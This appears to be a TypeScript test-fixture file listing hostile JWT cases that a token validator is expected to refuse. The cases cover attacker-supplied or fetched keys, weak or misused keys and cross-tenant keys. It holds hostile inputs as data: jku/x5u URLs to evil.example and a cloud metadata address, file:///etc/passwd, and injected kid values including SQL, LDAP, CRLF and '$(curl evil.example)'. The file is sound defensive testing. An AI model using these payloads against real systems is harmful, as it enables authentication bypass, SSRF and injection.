// Attacks on where keys come from: brought along, pointed to, guessed, misused, withdrawn or belonging to somebody else (RFC 8725 §3.10).
import { tenantId, userClaims, v1Claims } from '../jwt/token-builder.ts'
import { family, variants, type HostileCase } from './hostile-case.ts'
import { partnerClaims } from './targets.ts'
import { keys, named } from './token-forge.ts'

const ownKey = {
  wouldHaveWon: 'Any identity: the token is checked with a key that the attacker brought along.',
  refusedBy: 'key_known',
  references: ['CVE-2018-0114', 'RFC 8725 §3.10'],
}

const fetched = {
  wouldHaveWon: 'Any identity by a key set of the attacker’s, or requests from inside our network (SSRF).',
  refusedBy: 'key_known',
  references: ['CVE-2024-21643', 'CVE-2026-48522', 'RFC 8725 §3.10'],
}

const publicJwk = keys.stranger.jwk({ kid: 'mine' })
const stranger = named(keys.stranger, 'mine')

export const keyCases: readonly HostileCase[] = [
  ...family(ownKey, {
    'its own jwk and kid': ({ by }) => by(stranger, { jwk: publicJwk }),
    'its own x5c': ({ by }) => by(stranger, { x5c: ['MIIBszCCARygAwIBAgIU'] }),
    'its own jwks': ({ by }) => by(stranger, { jwks: { keys: [publicJwk] } }),
    'its own key named by x5t': ({ by }) => by(stranger, { x5t: 'key-1', 'x5t#S256': 'key-1' }),
  }),
  ...family(
    { ...ownKey, refusedBy: 'signature' },
    {
      'its own jwk under the authority’s kid': ({ by, keys }) =>
        by(keys.stranger, { jwk: keys.stranger.jwk() }),
      'its own x5c under the authority’s kid': ({ by, keys }) => by(keys.stranger, { x5c: ['MIIBszCCARyg'] }),
    },
  ),
  ...variants(
    fetched,
    'jku',
    [
      'https://evil.example/keys',
      'http://169.254.169.254/latest/meta-data/',
      'http://127.0.0.1:1/keys',
      'file:///etc/passwd',
      `data:application/json,${encodeURIComponent(JSON.stringify({ keys: [publicJwk] }))}`,
      'https://login.microsoftonline.com@evil.example/keys',
      'https://login.microsoftonline.com.evil.example/keys',
      'https://login.microsoftonline.com/common/oauth2/logout?post_logout_redirect_uri=https://evil.example',
      `https://login.microsoftonline.com/${tenantId}/discovery/v2.0/keys`,
      '//evil.example/keys',
    ],
    ({ by }, jku) => by(stranger, { jku }),
  ),
  ...variants(
    fetched,
    'x5u',
    ['https://evil.example/cert.pem', 'file:///dev/random', 'ldap://evil.example/'],
    ({ by }, x5u) => by(stranger, { x5u }),
  ),
  ...variants(
    {
      wouldHaveWon: 'An injection into whatever looks keys up: a file, a query, a prototype, a URL.',
      refusedBy: 'key_known',
      references: ['RFC 8725 §3.10', 'ASVS 15.3.6'],
    },
    'kid',
    [
      '../../../../dev/null',
      '/proc/sys/kernel/randomize_va_space',
      "x' UNION SELECT 'secret",
      '*)(uid=*))(|(uid=*',
      '$(curl evil.example)',
      'key-1\0',
      'key-1\r\nX-Injected: 1',
      '__proto__',
      'constructor',
      'hasOwnProperty',
      'https://evil.example/keys',
      'KEY-1',
      ' key-1',
      'key-1 ',
      'key-\u0661',
      'key-',
      '0',
      '😀'.repeat(128),
    ],
    ({ by }, kid) => by(named(keys.stranger, kid)),
  ),
  ...variants(
    {
      wouldHaveWon: 'Whichever key is tried first, or a lookup by something that is no name.',
      refusedBy: 'key_id',
      references: ['RFC 7515 §4.1.4'],
    },
    'a genuine signature and a kid',
    [undefined, '', null, 0, true, ['key-1'], { toString: 'key-1' }, 'k'.repeat(257), 'k'.repeat(30_000)],
    ({ user }, kid) => user({}, { kid }),
  ),
  ...variants(
    {
      wouldHaveWon:
        'Any identity, by a key that is too weak, broken, ambiguous or published for something else.',
      refusedBy: 'key_known',
      references: ['RFC 7517 §4', 'RFC 7518 §3.3', 'FIPS 186-5', 'Wycheproof keysize_too_small'],
    },
    'a published key',
    [
      'for-encryption',
      'for-wrapping',
      'for-ps256',
      'for-rs512',
      'for-oaep',
      'for-none',
      'for-hs256',
      'twice',
      'even-exponent',
      'lower-case-type',
      'other-type',
      'certificate-only',
      'number',
      '7',
      'secret',
      'key-ec',
      'key-p384',
      'of-list',
      'of-other-cloud',
    ],
    ({ by, named, keys }, kid) => by(named(keys.leaked, kid)),
  ),
  ...family(
    {
      wouldHaveWon: 'Any identity: a signature that is computed or factored, not made with a secret.',
      refusedBy: 'key_known',
      references: ['Wycheproof exponentOne', 'FIPS 186-5', 'RFC 7518 §3.3'],
    },
    {
      'a published key with the exponent 1, where the padded digest is the signature': (forge) => {
        const input = forge.unsigned({ kid: 'exponent-1' })
        return `${input}.${forge.encode(forge.paddedDigest(input))}`
      },
      'a published key with the exponent 3': ({ by, keys }) => by(keys.exponent3),
      'a published key of 1 024 bits behind zeros': ({ by, named, keys }) =>
        by(named(keys.weak, 'padded-modulus')),
      'a published key of 1 024 bits': ({ by, keys }) => by(keys.weak),
      'the genuine key of an ambiguous kid': ({ by, named, keys }) => by(named(keys.authority, 'twice')),
    },
  ),
  ...family(
    {
      wouldHaveWon: 'Any identity, by a point from which the private key can be learned.',
      refusedBy: 'key_known',
      references: ['RFC 8725 §3.4', 'Wycheproof invalid point'],
      against: 'algorithms',
    },
    {
      'a published key that is not on its curve': ({ by, named, keys }) => by(named(keys.curve, 'off-curve')),
    },
  ),
  ...variants(
    {
      wouldHaveWon: 'Every tenant, by the key of one of them: consumer keys signing enterprise tokens.',
      refusedBy: 'key_issuer',
      references: ['Storm-0558', 'Entra access tokens, signing key issuer'],
    },
    'a key that is limited to another issuer',
    ['of-other-tenant', 'of-consumers', 'of-gov-issuer', 'of-nobody'],
    ({ by, named, keys }, kid) => by(named(keys.leaked, kid)),
  ),
  ...family(
    {
      wouldHaveWon: 'A tenant of another customer, by a key that is limited to one’s own.',
      refusedBy: 'key_issuer',
      references: ['Storm-0558'],
      against: 'multi',
    },
    {
      'a key of another tenant, in an API for every tenant': ({ by, named, keys }) =>
        by(named(keys.leaked, 'of-other-tenant')),
      'a key of personal accounts, in an API for every tenant': ({ by, named, keys }) =>
        by(named(keys.leaked, 'of-consumers')),
    },
  ),
  ...family(
    {
      wouldHaveWon: 'Whatever a key was withdrawn to prevent, or one version’s keys signing for the other.',
      refusedBy: 'key_known',
      references: ['Entra access tokens, claims by version'],
    },
    {
      'a key that is no longer published': ({ by, named, keys }) =>
        by(named(keys.leaked, 'key-of-last-year')),
      'a key of the v1.0 document below a v2.0 token': ({ by, named, keys }) =>
        by(named(keys.leaked, 'v1-only')),
    },
  ),
  ...family(
    {
      wouldHaveWon: 'The government cloud, by a token of the global one: its v1.0 issuer is spelled alike.',
      refusedBy: 'key_known',
      references: ['RFC 8725 §3.8'],
      against: 'government',
    },
    { 'a v1.0 token of another cloud': ({ by, keys }) => by(keys.authority, {}, v1Claims()) },
  ),
  ...family(
    {
      wouldHaveWon: 'The users of one issuer, by the key of another one that is trusted beside it.',
      refusedBy: 'signature',
      references: ['RFC 8725 §3.8'],
      against: 'partner',
    },
    {
      'the partner’s key of the same kid, below a token of Entra': ({ by, named, keys }) =>
        by(named(keys.leaked, 'key-1')),
      'Entra’s key of the same kid, below a token of the partner': ({ by, keys }) =>
        by(keys.authority, {}, partnerClaims()),
    },
  ),
  ...family(
    {
      wouldHaveWon: 'The users of Entra, by a key that only the partner publishes.',
      refusedBy: 'key_known',
      references: ['RFC 8725 §3.8'],
      against: 'partner',
    },
    {
      'the partner’s own key below a token of Entra': ({ by, named, keys }) =>
        by(named(keys.leaked, 'partner-key'), {}, userClaims()),
    },
  ),
]
